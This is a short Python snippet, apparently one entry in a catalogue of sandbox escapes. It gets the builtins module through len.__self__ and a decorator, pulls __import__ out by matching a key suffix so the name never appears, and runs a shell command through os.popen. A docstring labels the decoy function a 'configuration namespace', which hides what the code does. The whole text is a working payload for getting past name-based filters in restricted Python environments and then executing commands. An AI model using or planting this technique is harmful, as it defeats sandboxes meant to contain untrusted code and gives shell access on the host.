# Two "nothing" rows at once: "a function's own __dict__" and "a callback's
# __self__". The decorator replaces the function with the __self__ of the
# built-in len, the builtins module, so settings.__dict__ is the builtins
# namespace, from which __import__ is taken without being named.
def owner(callback):
    return callback.__self__


@lambda fn: owner(len)
def settings():
    """Configuration namespace for the plugins."""


ns = settings.__dict__
loader = [ns[k] for k in ns if k.endswith("port__")][0]
print(loader("os").popen("id").read())
